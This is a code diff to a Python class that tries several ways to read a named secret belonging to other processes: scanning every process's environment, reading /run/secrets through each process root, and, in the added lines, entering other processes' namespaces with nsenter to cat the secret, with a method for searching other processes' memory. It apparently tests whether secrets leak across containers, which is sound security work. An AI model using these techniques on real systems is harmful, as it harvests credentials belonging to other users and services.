@@ -81,8 +81,11 @@ class Tries:
         return "\n".join(each for path in glob.glob("/proc/[0-9]*/environ") for each in [read(path)] if NAME in each)
 
     def roots(self):
-        """looks for the file through the root directories of all processes"""
-        return "\n".join(read(f"{path}/run/secrets/{NAME}") for path in glob.glob("/proc/[0-9]*/root"))
+        """looks for the file through the root directories of all processes, and from within their namespaces"""
+        # A container's root is a FUSE mount of another user namespace, hidden from whoever is outside of that.
+        enter = f"nsenter -t $p -U -m --preserve-credentials cat /run/secrets/{NAME}"
+        within = sh(f"for p in $(pgrep -u {self.owner}); do {enter}; done")
+        return "\n".join([within, *(read(f"{path}/run/secrets/{NAME}") for path in glob.glob("/proc/[0-9]*/root"))])
 
     def memory(self):
         """searches the memory of all processes of others"""
